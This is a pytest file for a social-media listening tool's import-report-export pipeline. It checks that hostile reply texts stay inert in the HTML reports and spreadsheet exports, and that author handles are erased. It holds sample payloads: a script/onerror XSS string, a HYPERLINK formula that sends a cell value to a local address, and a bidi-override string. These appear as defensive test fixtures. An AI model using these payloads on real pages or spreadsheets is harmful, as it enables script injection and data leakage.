"""The whole way of an export: imported, reported with quotes, exported; nothing runs, nobody is named, one forgotten.

Texts are hostile on purpose. They may change in an export for people (a formula becomes text), nowhere before.
"""

import csv
import html
import re
import shutil

import pandas as pd
import pytest
from chromium import open_page, visit
from click.testing import CliRunner
from openpyxl import load_workbook
from test_imports import EXPORTS, PEOPLE

from smm_analysis import places, tables
from smm_analysis.cli import main

HOSTILE = {
    "script": '배송이 늦어요 <script>document.title="ran"</script><img src=x onerror="document.title=\'ran\'">',
    "formula": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"배송이 늦어요")',
    "override": "배송이 늦어요 \u202eecin yrev\u202c 끝",
    "megabyte": "배송이 늦어요 " + "가나다라마바사 " * 131_072,
    "plus": "+배송이 늦어요",
}
HANDLES = [f"quiet_person_{n:02d}" for n in range(60)] + ["Brand_Care_KR"]
WANTED = ("kim_nari", "lee_dodam", "river.owl", "quiet_teapot", "north_by_tram", "MiraeCare")
READ = [("04_listening", "-p", "weeks=8", "-p", "quotes=20")]


def rows():
    """Three months of replies: sixty people, the latest eight weeks about late deliveries, hostile texts among them."""
    start = pd.Timestamp("2026-01-05 09:00", tz="Asia/Seoul")
    texts = ["포장이 예뻐요", "색이 마음에 들어요", "매장 직원이 친절해요"]
    for n in range(240):
        late = n >= 120
        text = list(HOSTILE.values())[n % 5] if late and n % 4 == 0 else "배송이 늦어요" if late else texts[n % 3]
        at = start + pd.Timedelta(hours=11 * n)
        yield [n + 1, HANDLES[n % 60], "True", at.strftime("%a %b %d %H:%M:%S %z %Y"), f"@{HANDLES[60]} {text}", "", ""]


def run(*arguments):
    result = CliRunner().invoke(main, [str(argument) for argument in arguments], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def journey(tmp_path_factory):
    """One data set from a hostile file and from every sample of replies and comments; its reports and exports."""
    folder = tmp_path_factory.mktemp("journey")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SMM_KEY", "000102030405060708090a0b0c0d0e0f")
        with (folder / "hostile.csv").open("w", encoding="utf-8", newline="") as file:
            head = "tweet_id,author_id,inbound,created_at,text,response_tweet_id,in_response_to_tweet_id"
            csv.writer(file).writerows([head.split(","), *rows()])
        data = folder / "data"
        said = [run("import", folder / "hostile.csv", "--out", data, "--brand", "mirae")]
        for name in ("youtube_comments.json", "twarc.csv", "x_api.jsonl", "meltwater.csv", "intercom.json"):
            said.append(run("import", EXPORTS / name, "--out", data, "--brand", "mirae", "--timezone", "Asia/Seoul"))
        (folder / "out").mkdir()
        for lang in ("en", "ko"):
            for report in READ:
                run("report", *report, "--data", data, "--out", folder / "out" / "reports", "--lang", lang)
        said.append(run("export", data, folder / "out" / "tables.xlsx", "--texts"))
        said.append(run("export", data, folder / "out" / "tables", "--texts"))
        (folder / "out" / "said.txt").write_text("\n".join(said), encoding="utf-8")
        yield folder


def test_texts_are_the_same_in_the_data_set(journey):
    kept = set(tables.load(journey / "data").mentions["text"].dropna())
    assert kept >= {f"@user {text}" for text in HOSTILE.values()}


def test_quotes_are_escaped_in_the_page(journey):
    for lang in ("en", "ko"):
        page = (journey / "out" / "reports" / "latest" / f"04_listening.mirae.{lang}.html").read_text("utf-8")
        assert "document.title" in page, "no hostile quote was shown: the test would see nothing"
        assert not re.search(r"<script>document|<img src=x", page)
        assert "\u202e" not in page and "\u202e" not in html.unescape(page)


def test_texts_are_off_unless_asked_for(journey):
    run("report", "04_listening", "--data", journey / "data", "--out", journey / "quiet", "-p", "weeks=8")
    page = (journey / "quiet" / "latest" / "04_listening.mirae.en.html").read_text("utf-8")
    assert "document.title" not in page and "<td>@user" not in page


@pytest.mark.browser
def test_nothing_runs_in_a_real_browser(journey, tmp_path):
    page = journey / "out" / "reports" / "latest" / "04_listening.mirae.ko.html"
    asked, _ = visit(page, tmp_path)
    assert asked == set()
    assert "<title>ran</title>" not in open_page(page, tmp_path)


@pytest.mark.browser
def test_the_browser_would_show_that_a_script_ran(tmp_path):
    (tmp_path / "bad.html").write_text(f"<title>quiet</title>{HOSTILE['script']}", encoding="utf-8")
    assert "<title>ran</title>" in open_page(tmp_path / "bad.html", tmp_path)


def test_no_cell_of_an_export_is_a_formula(journey):
    sheets = load_workbook(journey / "out" / "tables.xlsx")
    cells = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 1_000
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or str(cell.value)[:1] in "=+@"]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert max(len(str(cell.value)) for cell in cells) <= 32_767
    with (journey / "out" / "tables" / "mentions.csv").open(encoding="utf-8-sig", newline="") as file:
        written = [value for row in csv.reader(file) for value in row]
    assert any("HYPERLINK" in value for value in written)
    assert not [value for value in written if value[:1] in ("=", "+", "@", "\t", "\r")]


def contents(folder):
    """Yield every file's name and what it says, spreadsheets and Parquet unpacked."""
    for path in sorted(path for path in folder.rglob("*") if path.is_file()):
        if path.suffix == ".parquet":
            yield path.name, pd.read_parquet(path).to_csv()
        elif path.suffix == ".xlsx":
            yield path.name, "\n".join(str(c.value) for sheet in load_workbook(path) for row in sheet for c in row)
        else:
            yield path.name, path.read_bytes().decode("utf-8", "replace")


def named(handle, said):
    """Say whether a text names a handle; digits alone are none as part of a key, a decimal or a time."""
    whole = rf"(?<![\w.]){handle}(?!\w)" if handle.isdigit() else re.escape(handle)
    return re.search(whole, said, re.IGNORECASE) is not None


def test_no_handle_is_in_any_file_that_a_run_leaves(journey):
    distinctive = {handle for handle in (*HANDLES, *PEOPLE) if handle != "사람"}
    names = []
    for folder in (journey / "data", journey / "out"):
        for name, said in contents(folder):
            names.append(name)
            found = [handle for handle in distinctive if named(handle, said)]
            assert not found, f"{name} names {found}"
    kinds = {name.rpartition(".")[2] for name in names}
    assert kinds >= {"parquet", "toml", "json", "html", "ipynb", "xlsx", "csv", "txt"}


def test_the_search_would_find_a_handle(journey):
    inputs = dict(contents(EXPORTS)) | {"hostile.csv": (journey / "hostile.csv").read_text("utf-8")}
    for handle in (*WANTED, *HANDLES, *PEOPLE):
        assert any(named(handle, said) for said in inputs.values()), handle
    assert named("115701", "@115701 확인") and named("115701", "a,115701,b") and named("north", "NORTH_by_tram")
    assert not named("115701", "09:40:24.115701+00:00") and not named("115701", "key c0115701fe")


def test_forgetting_leaves_no_row_of_a_person(journey, monkeypatch):
    monkeypatch.setenv("SMM_KEY", "000102030405060708090a0b0c0d0e0f")
    before = tables.load(journey / "data").mentions
    told = run("forget", f"@{HANDLES[7].upper()}", "--data", journey / "data")
    after = tables.load(journey / "data").mentions
    gone = before[~before["mention_id"].isin(after["mention_id"])]
    [key] = gone["author_key"].unique()
    assert len(gone) == 4
    assert not [name for name, said in contents(journey / "data") if key in said]
    assert HANDLES[7] not in told.casefold()
    assert "Nothing" in run("forget", HANDLES[7], "--data", journey / "data")


def test_a_brand_in_a_zone_with_summer_time_gets_its_report(tmp_path):
    """Two clock changes lie in the sample: a day of 23 hours, and one of 25."""
    data = tmp_path / "data"
    data.mkdir()
    shutil.copy(places.sample() / "mentions.csv", data)
    told = (places.sample() / "dataset.toml").read_text("utf-8").replace("Asia/Seoul", "Europe/Berlin")
    (data / "dataset.toml").write_text(told, encoding="utf-8")
    run("report", "04_listening", "--data", data, "--out", tmp_path / "out")
